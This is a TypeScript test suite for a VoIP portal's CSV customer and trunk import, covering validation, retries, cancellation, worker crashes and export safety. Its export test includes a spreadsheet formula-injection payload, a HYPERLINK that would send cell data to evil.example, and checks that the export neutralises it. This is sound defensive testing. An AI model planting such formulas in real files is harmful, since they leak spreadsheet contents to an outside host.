import { type ChildProcess, spawn } from "node:child_process";
import path from "node:path";
import pg from "pg";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Actor } from "../../lib/auth/policy";
import { executeCommand } from "../../lib/commands";
import { parseCsv } from "../../lib/csv";
import { createCustomer } from "../../lib/customers";
import type { Db } from "../../lib/db";
import { exportCustomersCsv, exportTrunksCsv } from "../../lib/exports";
import {
  cancelImport,
  getImportProgress,
  importResultCsv,
  RUN_IMPORT_TASK,
  startImport,
  uploadImport,
} from "../../lib/imports";
import { IMPORT_COLUMNS, IMPORT_TEMPLATE } from "../../lib/imports/rows";
import { ROOT } from "../../lib/paths";
import { ensureRegistrarSchema } from "../../lib/registrar/schema";
import { createTrunk } from "../../lib/trunks";
import { createTestDatabase } from "../support/database";
import { contextFor, createActor, createPortalDatabase, startTestWorker, waitForQueueToDrain } from "../support/portal";

let db: Db;
let url: string;
let sales: Actor;
let run = 0;
const HOST = "Sip.Import.example";
const children: ChildProcess[] = [];

beforeAll(async () => {
  ({ db, url } = await createPortalDatabase("csvimport"));
  await db.sipServer.create({ data: { hostname: HOST, realm: "sip.import.example", label: "Import" } });
  sales = await createActor(db, "SALES");
});
afterAll(async () => {
  for (const child of children) child.kill("SIGKILL");
  await db?.$disconnect();
});

const HEADER = IMPORT_COLUMNS.join(",");

/** A row of the import file; `prefix` keeps ids, emails and DIDs unique per test. */
function row(prefix: string, n: number, overrides: Partial<Record<(typeof IMPORT_COLUMNS)[number], string>> = {}) {
  const values: Record<string, string> = {
    customer_external_id: `${prefix}-c${n}`,
    company: `${prefix} Company ${n}`,
    contact_name: "Pat Jones",
    contact_email: `${prefix}-${n}@import.example`,
    trunk_external_id: `${prefix}-t${n}`,
    servers: HOST,
    call_limit: "10",
    dial_permission: "US_CANADA",
    allowed_countries: "",
    caller_id_policy: "FORCED",
    forced_caller_id: "+12025550100",
    forced_caller_id_name: "",
    dids: "",
    ...overrides,
  };
  return IMPORT_COLUMNS.map((column) => {
    const value = values[column] ?? "";
    return /[",\n\r]/.test(value) ? `"${value.replaceAll('"', '""')}"` : value;
  }).join(",");
}

const file = (rows: string[], lineEnd = "\n") => [HEADER, ...rows].join(lineEnd) + lineEnd;
// The letter after the counter keeps it from ever reading as a SIP username ("r71234", letters then digits), which
// the staff search looks up as a username only: 1 run in 160 drew four digits and found no customer by it.
const unique = () => `r${++run}x${Math.random().toString(36).slice(2, 6)}`;

/** Routes `did` to a trunk of another customer (as staff would between an import's dry run and its start). */
async function routeDidToAnotherTrunk(p: string, did: string): Promise<string> {
  const other = await executeCommand(createCustomer, contextFor(db, sales), {
    company: "Other",
    contactName: "X",
    contactEmail: `${p}-x@import.example`,
  });
  if (!other.ok) throw new Error(JSON.stringify(other));
  const server = await db.sipServer.findFirstOrThrow({ where: { hostname: HOST } });
  const taken = await executeCommand(createTrunk, contextFor(db, sales), {
    customerId: other.value.id,
    serverIds: server.id,
    callLimit: "2",
    dialPermission: "US_ONLY",
    callerIdPolicy: "OWN_DIDS",
    dids: did,
  });
  if (!taken.ok) throw new Error(JSON.stringify(taken));
  return taken.value.id;
}

async function upload(csv: string, actor: Actor = sales) {
  const result = await executeCommand(uploadImport, contextFor(db, actor), { csv, filename: "test.csv" });
  if (!result.ok) throw new Error(JSON.stringify(result));
  return result.value;
}

async function uploadAndStart(csv: string, sendCredentials = false) {
  const uploaded = await upload(csv);
  expect(uploaded.status, JSON.stringify(uploaded.errors)).toBe("READY");
  const started = await executeCommand(startImport, contextFor(db, sales), {
    importId: uploaded.id,
    sendCredentials: sendCredentials ? "on" : undefined,
  });
  expect(started.ok).toBe(true);
  return uploaded.id;
}

async function waitForImport(importId: string, timeoutMs = 60_000) {
  const deadline = Date.now() + timeoutMs;
  for (;;) {
    const progress = await getImportProgress(db, importId);
    if (progress.import.status === "COMPLETED" || progress.import.status === "CANCELLED") return progress;
    if (Date.now() > deadline) throw new Error(`import still ${progress.import.status} after ${timeoutMs} ms`);
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
}

describe("the dry run", () => {
  it("lists every error by line and column and imports nothing", async () => {
    const p = unique();
    const csv = file([
      row(p, 1),
      row(p, 2, { contact_email: "not-an-email" }),
      // A quoted cell over two lines: the rows after it keep their real line numbers.
      row(p, 3, { forced_caller_id_name: "Two\nlines" }),
      row(p, 4, { servers: HOST.toLowerCase(), call_limit: "many" }),
      row(p, 5, { dial_permission: "COUNTRIES", allowed_countries: "" }),
      row(p, 6, { trunk_external_id: `${p}-t1` }),
      row(p, 7, { customer_external_id: `${p}-c1` }),
    ]);
    const customersBefore = await db.customer.count();
    const checked = await upload(csv);
    expect(checked.status).toBe("INVALID");
    const errors = checked.errors as { line: number; column: string | null; message: string }[];
    const at = (line: number) => errors.filter((error) => error.line === line).map((error) => error.column);
    expect(at(2)).toEqual([]);
    expect(at(3)).toEqual(["contact_email"]);
    expect(at(4)).toEqual(["forced_caller_id_name"]);
    // Line 4's quoted cell spans lines 4 and 5, so the next row starts on line 6.
    expect(at(6).sort()).toEqual(["call_limit", "servers"]);
    expect(errors.find((error) => error.line === 6 && error.column === "servers")?.message).toMatch(/case-sensitive/);
    expect(at(7)).toEqual(["allowed_countries"]);
    expect(at(8)).toEqual(["trunk_external_id"]);
    // Line 9 names customer c1 with another company, contact and email.
    expect(at(9).sort()).toEqual(["company", "contact_email"]);
    expect(checked.errorCount).toBe(errors.length);
    expect(await db.customer.count()).toBe(customersBefore);
    expect(await db.csvImportRow.count({ where: { importId: checked.id } })).toBe(0);
    const started = await executeCommand(startImport, contextFor(db, sales), { importId: checked.id });
    expect(started).toMatchObject({ ok: false, reason: "conflict" });
  });

  it("reports an email or DID that belongs to someone else already", async () => {
    const p = unique();
    const other = await db.customer.create({
      data: { company: "Other", contactName: "O", contactEmail: `${p}-taken@import.example` },
    });
    await db.user.create({
      data: { email: `${p}-taken@import.example`, name: "O", role: "CUSTOMER", customerId: other.id },
    });
    const checked = await upload(file([row(p, 1, { contact_email: `${p}-taken@import.example` })]));
    expect(checked.errors).toEqual([
      { line: 2, column: "contact_email", message: "A user with this email already exists." },
    ]);
  });

  it("takes the template as it is downloaded (with its example server renamed)", async () => {
    await db.sipServer.upsert({
      where: { hostname: "sip.example.com" },
      update: {},
      create: { hostname: "sip.example.com", realm: "sip.example.com", label: "Template" },
    });
    const checked = await upload(IMPORT_TEMPLATE);
    expect(checked.errors).toEqual([]);
    expect(checked.status).toBe("READY");
    expect(checked.totalRows).toBe(2);
  });
});

describe("hostile files", () => {
  it("reads a file with a BOM, CRLF line ends and quoted commas and quotes", async () => {
    const p = unique();
    const csv = `\uFEFF${file([row(p, 1, { company: 'Acme, "The" Dental' }), row(p, 2)], "\r\n")}`;
    const checked = await upload(csv);
    expect(checked.errors).toEqual([]);
    const stored = await db.csvImportRow.findMany({ where: { importId: checked.id }, orderBy: { line: "asc" } });
    expect(stored.map((r) => r.line)).toEqual([2, 3]);
    expect((stored[0]?.data as Record<string, string> | undefined)?.company).toBe('Acme, "The" Dental');
  });

  it("refuses a file over the size limit with a field error, and broken quoting with its line", async () => {
    const huge = `${HEADER}\n${"x".repeat(5 * 1024 * 1024)}\n`;
    const refused = await executeCommand(uploadImport, contextFor(db, sales), { csv: huge });
    expect(refused).toMatchObject({ ok: false, reason: "invalid" });
    expect(refused.ok || refused.fieldErrors?.csv?.[0]).toMatch(/larger than 5 MB/);

    const refusal = async (csv: string) => {
      const result = await executeCommand(uploadImport, contextFor(db, sales), { csv });
      expect(result).toMatchObject({ ok: false, reason: "invalid" });
      return result.ok ? "" : (result.fieldErrors?.csv?.[0] ?? "");
    };
    expect(await refusal(`${HEADER}\n${row(unique(), 1)}\nx,"unclosed\n`)).toMatch(
      /^Line \d+: This is not a valid CSV/,
    );
    expect(await refusal(`${HEADER}\n${row(unique(), 1)}\na,b\n`)).toMatch(/^Line 3: .*different number of columns/);
    expect(await db.csvImport.count({ where: { createdById: sales.id, status: "INVALID", totalRows: 0 } })).toBe(0);
  });

  it("refuses more rows than the limit and files without the columns", async () => {
    const tooMany = parseCsv(`${HEADER}\n${`x${",".repeat(IMPORT_COLUMNS.length - 1)}\n`.repeat(20_001)}`);
    expect(tooMany).toMatchObject({ problem: { message: expect.stringMatching(/more than 20,000 rows/) } });
    const noColumns = await executeCommand(uploadImport, contextFor(db, sales), {
      csv: "name,email\nA,a@example.com\n",
    });
    expect(noColumns).toMatchObject({
      ok: false,
      fieldErrors: { csv: [expect.stringMatching(/^Line 1: missing columns/)] },
    });
  });

  it("refuses control characters: a tab in a cell by its column, a NUL anywhere for the whole file", async () => {
    const checked = await upload(file([row(unique(), 1, { contact_name: "Pat\tJones" })]));
    expect(checked.errors).toEqual([expect.objectContaining({ line: 2, column: "contact_name" })]);
    const nul = await executeCommand(uploadImport, contextFor(db, sales), {
      csv: file([row(unique(), 1, { contact_name: "Pat\u0000" })]),
    });
    expect(nul).toMatchObject({ ok: false, fieldErrors: { csv: [expect.stringMatching(/control characters/)] } });
  });
});

describe("running an import", () => {
  it("creates customers and trunks once: a re-run of the same file creates nothing", async () => {
    const worker = await startTestWorker({ db, url });
    try {
      const p = unique();
      const csv = file([
        row(p, 1, { dids: "+12025550171; +12025550172", caller_id_policy: "OWN_DIDS", forced_caller_id: "" }),
        row(p, 1, { trunk_external_id: `${p}-t1b` }),
        row(p, 2, {
          trunk_external_id: "",
          servers: "",
          call_limit: "",
          dial_permission: "",
          caller_id_policy: "",
          forced_caller_id: "",
        }),
      ]);
      const first = await waitForImport(await uploadAndStart(csv));
      expect(first.import.status).toBe("COMPLETED");
      expect(first.counts).toMatchObject({ CREATED: 3, FAILED: 0, PENDING: 0 });
      const customers = await db.customer.findMany({ where: { externalId: { startsWith: `${p}-` } } });
      expect(customers).toHaveLength(2);
      const trunks = await db.trunk.findMany({
        where: { externalId: { startsWith: `${p}-` } },
        include: { dids: true },
      });
      expect(trunks).toHaveLength(2);
      expect(new Set(trunks.map((trunk) => trunk.customerId)).size).toBe(1);
      // Credentials were not to be emailed: no mail for these trunks.
      expect(await db.mail.count({ where: { trunkId: { in: trunks.map((trunk) => trunk.id) } } })).toBe(0);
      // Every change is in the audit log, with the import's id.
      const audit = await db.auditLog.findMany({ where: { targetId: { in: trunks.map((trunk) => trunk.id) } } });
      expect(audit.map((entry) => entry.action)).toEqual(["trunk.create", "trunk.create"]);
      expect(audit[0]?.actorId).toBe(sales.id);

      const result = await importResultCsv(db, first.import.id);
      expect(result?.split("\r\n")[0]).toBe(
        "line,customer_external_id,trunk_external_id,customer_id,username,status,error",
      );
      for (const trunk of trunks) expect(result).toContain(trunk.username);
      expect(result).not.toMatch(/password/i);
      for (const trunk of trunks) expect(result).not.toContain(trunk.passwordCiphertext);

      const again = await waitForImport(await uploadAndStart(csv, true));
      expect(again.counts).toMatchObject({ CREATED: 0, EXISTING: 3, FAILED: 0 });
      expect(await db.customer.count({ where: { externalId: { startsWith: `${p}-` } } })).toBe(2);
      expect(await db.trunk.count({ where: { externalId: { startsWith: `${p}-` } } })).toBe(2);
      expect(await db.user.count({ where: { email: `${p}-1@import.example` } })).toBe(1);
    } finally {
      await worker.stop();
    }
  });

  it("emails the credentials of each new trunk when asked, through the outbox", async () => {
    const worker = await startTestWorker({ db, url });
    try {
      const p = unique();
      const done = await waitForImport(await uploadAndStart(file([row(p, 1), row(p, 2)]), true));
      expect(done.counts.CREATED).toBe(2);
      const trunks = await db.trunk.findMany({ where: { externalId: { startsWith: `${p}-` } } });
      const mails = await db.mail.findMany({ where: { trunkId: { in: trunks.map((trunk) => trunk.id) } } });
      expect(mails.map((mail) => mail.to).sort()).toEqual([`${p}-1@import.example`, `${p}-2@import.example`]);
    } finally {
      await worker.stop();
    }
  });

  it("reports a row that fails at import time and goes on with the others", async () => {
    const worker = await startTestWorker({ db, url });
    try {
      const p = unique();
      const csv = file([
        row(p, 1, { dids: "+12025550181", caller_id_policy: "OWN_DIDS", forced_caller_id: "" }),
        row(p, 2),
      ]);
      const uploaded = await upload(csv);
      // Someone routes the DID to another trunk between the dry run and the import.
      await routeDidToAnotherTrunk(p, "+12025550181");
      await executeCommand(startImport, contextFor(db, sales), { importId: uploaded.id });
      const done = await waitForImport(uploaded.id);
      expect(done.counts).toMatchObject({ CREATED: 1, FAILED: 1 });
      const failed = await db.csvImportRow.findFirstOrThrow({ where: { importId: uploaded.id, status: "FAILED" } });
      expect(failed.line).toBe(2);
      expect(failed.error).toMatch(/\+12025550181/);
      // The failed row left nothing behind: its customer was in the same transaction.
      expect(await db.customer.count({ where: { externalId: `${p}-c1` } })).toBe(0);
    } finally {
      await worker.stop();
    }
  });
});

describe("suspended and closed accounts", () => {
  it("get no new trunk: the dry run names the rows, and an account suspended since fails its rows at import", async () => {
    const worker = await startTestWorker({ db, url });
    try {
      const p = unique();
      const account = (n: number, status: "ACTIVE" | "SUSPENDED" | "CLOSED") =>
        db.customer.create({
          data: {
            company: `${p} Company ${n}`,
            contactName: "Pat Jones",
            contactEmail: `${p}-${n}@import.example`,
            externalId: `${p}-c${n}`,
            status,
          },
        });
      // A customer's row without a trunk adds none: not refused.
      const customerOnly = {
        trunk_external_id: "",
        servers: "",
        call_limit: "",
        dial_permission: "",
        caller_id_policy: "",
        forced_caller_id: "",
      };
      await account(1, "SUSPENDED");
      await account(2, "CLOSED");
      const later = await account(3, "ACTIVE");
      const rows = [row(p, 1), row(p, 2), row(p, 2, customerOnly), row(p, 3), row(p, 4)];

      const checked = await upload(file(rows));
      expect(checked.status).toBe("INVALID");
      expect(checked.errors).toEqual([
        { line: 2, column: "customer_external_id", message: expect.stringMatching(/^This account is suspended/) },
        { line: 3, column: "customer_external_id", message: expect.stringMatching(/^This account is closed/) },
      ]);

      // Checked while active, suspended before the import runs: its row fails, the others are imported.
      const uploaded = await upload(file(rows.slice(2)));
      expect(uploaded.status).toBe("READY");
      await db.customer.update({ where: { id: later.id }, data: { status: "SUSPENDED" } });
      await executeCommand(startImport, contextFor(db, sales), { importId: uploaded.id });
      const done = await waitForImport(uploaded.id);
      expect(done.counts).toMatchObject({ CREATED: 1, EXISTING: 1, FAILED: 1 });
      const failed = await db.csvImportRow.findFirstOrThrow({ where: { importId: uploaded.id, status: "FAILED" } });
      expect(failed).toMatchObject({ line: 3, error: expect.stringMatching(/^This account is suspended/) });
      expect(await db.trunk.count({ where: { customerId: later.id } })).toBe(0);
    } finally {
      await worker.stop();
    }
  });
});

describe("chunks with a row at fault", () => {
  it("imports every other row of the chunk and reports the row whose email was taken since the dry run", async () => {
    const worker = await startTestWorker({ db, url });
    try {
      const p = unique();
      const uploaded = await upload(file(Array.from({ length: 30 }, (_, n) => row(p, n))));
      expect(uploaded.status).toBe("READY");
      // A user with row 12's contact email appears after the dry run: only the chunk's statement can find out.
      const taken = await executeCommand(createCustomer, contextFor(db, sales), {
        company: "Took The Email",
        contactName: "X",
        contactEmail: `${p}-12@import.example`,
      });
      expect(taken.ok).toBe(true);
      await executeCommand(startImport, contextFor(db, sales), { importId: uploaded.id });
      const done = await waitForImport(uploaded.id);
      expect(done.counts).toMatchObject({ CREATED: 29, FAILED: 1, PENDING: 0 });
      const failed = await db.csvImportRow.findMany({ where: { importId: uploaded.id, status: "FAILED" } });
      // Line 1 is the header: row 12 is on line 14.
      expect(failed.map((failure) => [failure.line, failure.error])).toEqual([
        [14, `A user with the email ${p}-12@import.example already exists.`],
      ]);
      expect(await db.customer.count({ where: { externalId: `${p}-c12` } })).toBe(0);
      expect(await db.trunk.count({ where: { externalId: { startsWith: `${p}-` } } })).toBe(29);
      // Each imported row is linked to what it created, and each record was created (and audited) once.
      const rows = await db.csvImportRow.findMany({ where: { importId: uploaded.id, status: "CREATED" } });
      const trunks = await db.trunk.findMany({ where: { externalId: { startsWith: `${p}-` } } });
      expect(rows.map((imported) => imported.trunkId).sort()).toEqual(trunks.map((trunk) => trunk.id).sort());
      expect(rows.map((imported) => imported.username).sort()).toEqual(trunks.map((trunk) => trunk.username).sort());
      const audit = await db.auditLog.groupBy({
        by: ["action"],
        where: { details: { path: ["importId"], equals: uploaded.id } },
        _count: { _all: true },
      });
      expect(Object.fromEntries(audit.map((entry) => [entry.action, entry._count._all]))).toEqual({
        "customer.create": 29,
        "trunk.create": 29,
      });
    } finally {
      await worker.stop();
    }
  });

  it("reports a DID routed elsewhere since the dry run on its line, and imports the customer's next row", async () => {
    const worker = await startTestWorker({ db, url });
    try {
      const p = unique();
      const rows = Array.from({ length: 40 }, (_, n) => row(p, n));
      rows[20] = row(p, 20, { dids: "+12025550191", caller_id_policy: "OWN_DIDS", forced_caller_id: "" });
      // The same customer's second trunk, in the same chunk: its row must still create the customer.
      rows.splice(21, 0, row(p, 20, { trunk_external_id: `${p}-t20b` }));
      const uploaded = await upload(file(rows));
      expect(uploaded.status, JSON.stringify(uploaded.errors)).toBe("READY");
      const takenBy = await routeDidToAnotherTrunk(p, "+12025550191");
      await executeCommand(startImport, contextFor(db, sales), { importId: uploaded.id });
      const done = await waitForImport(uploaded.id);
      expect(done.counts).toMatchObject({ CREATED: 40, FAILED: 1, PENDING: 0 });
      const failed = await db.csvImportRow.findMany({ where: { importId: uploaded.id, status: "FAILED" } });
      expect(failed.map((failure) => failure.line)).toEqual([22]);
      expect(failed[0]?.error).toMatch(/\+12025550191/);
      const customer = await db.customer.findUniqueOrThrow({
        where: { externalId: `${p}-c20` },
        include: { trunks: true },
      });
      expect(customer.trunks.map((trunk) => trunk.externalId)).toEqual([`${p}-t20b`]);
      expect(await db.trunk.count({ where: { externalId: { startsWith: `${p}-` } } })).toBe(40);
      expect(await db.did.findUniqueOrThrow({ where: { number: "+12025550191" } })).toMatchObject({
        trunkId: takenBy,
      });
    } finally {
      await worker.stop();
    }
  });
});

describe("cancelling", () => {
  it("ends an import that has not started, and one that is running between two rows", async () => {
    const p = unique();
    const notStarted = await upload(file([row(p, 1)]));
    const cancelled = await executeCommand(cancelImport, contextFor(db, sales), { importId: notStarted.id });
    expect(cancelled).toMatchObject({ ok: true, value: { status: "CANCELLED" } });

    // Enough rows that chunks are still waiting when the cancellation lands: with 300 (two lanes of three chunks),
    // the last chunks had sometimes started before it did, and nothing was left to skip.
    const rows = Array.from({ length: 2000 }, (_, n) => row(p, n + 10));
    const importId = await uploadAndStart(file(rows));
    const worker = await startTestWorker({ db, url });
    try {
      for (;;) {
        const progress = await getImportProgress(db, importId);
        if (progress.done >= 5) break;
        await new Promise((resolve) => setTimeout(resolve, 20));
      }
      expect((await executeCommand(cancelImport, contextFor(db, sales), { importId })).ok).toBe(true);
      const done = await waitForImport(importId);
      expect(done.import.status).toBe("CANCELLED");
      expect(done.counts.PENDING).toBe(0);
      expect(done.counts.SKIPPED).toBeGreaterThan(0);
      // What was imported is exactly what the rows say: no half rows.
      expect(await db.trunk.count({ where: { externalId: { startsWith: `${p}-` } } })).toBe(done.counts.CREATED);
      const audit = await db.auditLog.findFirst({ where: { targetId: importId, action: "import.cancelled" } });
      expect(audit).not.toBeNull();
    } finally {
      await worker.stop();
    }
  });
});

describe("a worker killed mid-import", () => {
  it("is resumed by another worker, without duplicates", async () => {
    const registrarUrl = await createTestDatabase("csvimport_registrar");
    await ensureRegistrarSchema(registrarUrl);
    const child = spawn(process.execPath, ["--import", "tsx", path.join(ROOT, "scripts", "worker.ts")], {
      cwd: ROOT,
      env: { ...process.env, DATABASE_URL: url, REGISTRAR_DATABASE_URL: registrarUrl },
      stdio: ["ignore", "ignore", "inherit"],
    });
    children.push(child);
    const p = unique();
    // Two trunks per customer for some rows: the rows of one customer must not create it twice either.
    const rows = Array.from({ length: 120 }, (_, n) => row(p, Math.floor(n / 2), { trunk_external_id: `${p}-t${n}` }));
    const importId = await uploadAndStart(file(rows));
    for (;;) {
      const progress = await getImportProgress(db, importId);
      if (progress.done >= 10) {
        expect(progress.done).toBeLessThan(120);
        break;
      }
      expect(child.exitCode).toBeNull();
      await new Promise((resolve) => setTimeout(resolve, 10));
    }
    child.kill("SIGKILL");
    await new Promise((resolve) => child.once("exit", resolve));
    const interrupted = await getImportProgress(db, importId);
    expect(interrupted.import.status).toBe("RUNNING");

    const survivor = await startTestWorker({ db, url, staleAfterMs: 2000 });
    try {
      const done = await waitForImport(importId, 120_000);
      expect(done.import.status).toBe("COMPLETED");
      expect(done.counts).toMatchObject({ CREATED: 120, FAILED: 0, PENDING: 0 });
      expect(await db.trunk.count({ where: { externalId: { startsWith: `${p}-` } } })).toBe(120);
      expect(await db.customer.count({ where: { externalId: { startsWith: `${p}-` } } })).toBe(60);
      expect(await db.user.count({ where: { email: { startsWith: `${p}-` } } })).toBe(60);
      await waitForQueueToDrain(db, RUN_IMPORT_TASK);
    } finally {
      await survivor.stop();
    }
  }, 180_000);
});

describe("a worker killed in the middle of a chunk", () => {
  it("leaves none of the chunk behind, and another worker imports every row once", async () => {
    const registrarUrl = await createTestDatabase("csvimport_registrar");
    await ensureRegistrarSchema(registrarUrl);
    const p = unique();
    const rows = Array.from({ length: 120 }, (_, n) => row(p, Math.floor(n / 2), { trunk_external_id: `${p}-t${n}` }));
    const uploaded = await upload(file(rows));
    expect(uploaded.status).toBe("READY");
    const known = new Set((await db.workerHeartbeat.findMany()).map((beat) => beat.workerId));
    const child = spawn(process.execPath, ["--import", "tsx", path.join(ROOT, "scripts", "worker.ts")], {
      cwd: ROOT,
      env: { ...process.env, DATABASE_URL: url, REGISTRAR_DATABASE_URL: registrarUrl },
      stdio: ["ignore", "ignore", "inherit"],
    });
    children.push(child);
    while ((await db.workerHeartbeat.findMany()).every((beat) => known.has(beat.workerId))) {
      expect(child.exitCode).toBeNull();
      await new Promise((resolve) => setTimeout(resolve, 50));
    }
    // Another transaction holds the last row's trunk id, uncommitted: the chunk that reaches that row has written its
    // customers and waits in its trunks' statement, its transaction open, when the worker is killed.
    const holder = new pg.Client({ connectionString: url });
    await holder.connect();
    try {
      await holder.query("BEGIN");
      await holder.query(
        `INSERT INTO "Customer" (id, company, "contactName", "contactEmail", "updatedAt") VALUES ($1, 'Holder', 'H', $2, now())`,
        [`${p}-holder`, `${p}-holder@import.example`],
      );
      await holder.query(
        `INSERT INTO "Trunk" (id, "customerId", username, "passwordCiphertext", "passwordKeyId", "callLimit",
                              "dialPermission", "allowedCountries", "callerIdPolicy", "externalId", "updatedAt")
         VALUES ($1, $1, $2, 'x', 'k', 1, 'US_ONLY', '{}', 'OWN_DIDS', $3, now())`,
        [`${p}-holder`, `${p}holder`, `${p}-t119`],
      );
      await executeCommand(startImport, contextFor(db, sales), { importId: uploaded.id });
      // Asked outside the holder's transaction, which sees the server's activity as it was when it began.
      for (;;) {
        const waiting = await db.$queryRaw<unknown[]>`
          SELECT 1 FROM pg_stat_activity
          WHERE datname = current_database() AND wait_event_type = 'Lock' AND query LIKE '%INSERT INTO "Trunk"%'`;
        if (waiting.length) break;
        expect(child.exitCode).toBeNull();
        await new Promise((resolve) => setTimeout(resolve, 20));
      }
      child.kill("SIGKILL");
      await new Promise((resolve) => child.once("exit", resolve));
      await holder.query("ROLLBACK");
    } finally {
      await holder.end();
    }

    // What the dead worker committed is exactly what its rows say: whole rows, none of the open chunk.
    const interrupted = await getImportProgress(db, uploaded.id);
    expect(interrupted.import.status).toBe("RUNNING");
    expect(interrupted.counts.PENDING).toBeGreaterThan(0);
    expect(interrupted.done).toBeGreaterThan(0);
    const committed = await db.csvImportRow.findMany({ where: { importId: uploaded.id, status: "CREATED" } });
    const customersOfRows = new Set(committed.map((imported) => imported.customerId));
    expect(await db.customer.count({ where: { externalId: { startsWith: `${p}-` } } })).toBe(customersOfRows.size);
    expect(await db.trunk.count({ where: { externalId: { startsWith: `${p}-` } } })).toBe(committed.length);

    const survivor = await startTestWorker({ db, url, staleAfterMs: 2000 });
    try {
      const done = await waitForImport(uploaded.id, 120_000);
      expect(done.counts).toMatchObject({ CREATED: 120, FAILED: 0, PENDING: 0 });
      expect(await db.trunk.count({ where: { externalId: { startsWith: `${p}-` } } })).toBe(120);
      expect(await db.customer.count({ where: { externalId: { startsWith: `${p}-` } } })).toBe(60);
      expect(await db.user.count({ where: { email: { startsWith: `${p}-` } } })).toBe(60);
      const audit = await db.auditLog.groupBy({
        by: ["action"],
        where: { details: { path: ["importId"], equals: uploaded.id } },
        _count: { _all: true },
      });
      expect(Object.fromEntries(audit.map((entry) => [entry.action, entry._count._all]))).toEqual({
        "customer.create": 60,
        "trunk.create": 120,
      });
      await waitForQueueToDrain(db, RUN_IMPORT_TASK);
    } finally {
      await survivor.stop();
    }
  }, 180_000);
});

describe("exports", () => {
  it("neutralises formulas and never includes a secret", async () => {
    const p = unique();
    const customer = await db.customer.create({
      data: {
        company: `=HYPERLINK("http://evil.example/?"&A1,"${p}")`,
        contactName: "@SUM(1+1)",
        contactEmail: `${p}@export.example`,
        externalId: `${p}-x`,
      },
    });
    const ctx = { ...contextFor(db, sales), db };
    const text = await new Response(await exportCustomersCsv(ctx, { q: p })).text();
    const lines = text.trimEnd().split("\r\n");
    expect(lines).toHaveLength(2);
    expect(lines[1]).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""${p}"")"`);
    expect(lines[1]).toContain(",'@SUM(1+1),");
    expect(lines[1]?.startsWith(customer.id)).toBe(true);
    expect(await db.auditLog.count({ where: { action: "customers.export", actorId: sales.id } })).toBeGreaterThan(0);

    const worker = await startTestWorker({ db, url });
    try {
      await waitForImport(await uploadAndStart(file([row(p, 1), row(p, 2)])));
    } finally {
      await worker.stop();
    }
    const trunks = await db.trunk.findMany({
      where: { externalId: { startsWith: `${p}-` } },
      include: { servers: true },
    });
    const exported = await new Response(await exportTrunksCsv(ctx, { customerId: trunks[0]?.customerId })).text();
    expect(exported.split("\r\n")[1]).toContain(trunks[0]?.username);
    for (const secret of trunks.flatMap((trunk) => [
      trunk.passwordCiphertext,
      ...trunk.servers.flatMap((s) => [s.ha1, s.ha1b]),
    ])) {
      expect(exported).not.toContain(secret);
    }
    // Phone numbers start with +: they are neutralised too, and an import reads them back as they were.
    expect(exported).toContain("'+12025550100");
    const reimport = await upload(exported);
    expect(reimport.errors).toEqual([]);
  });
});
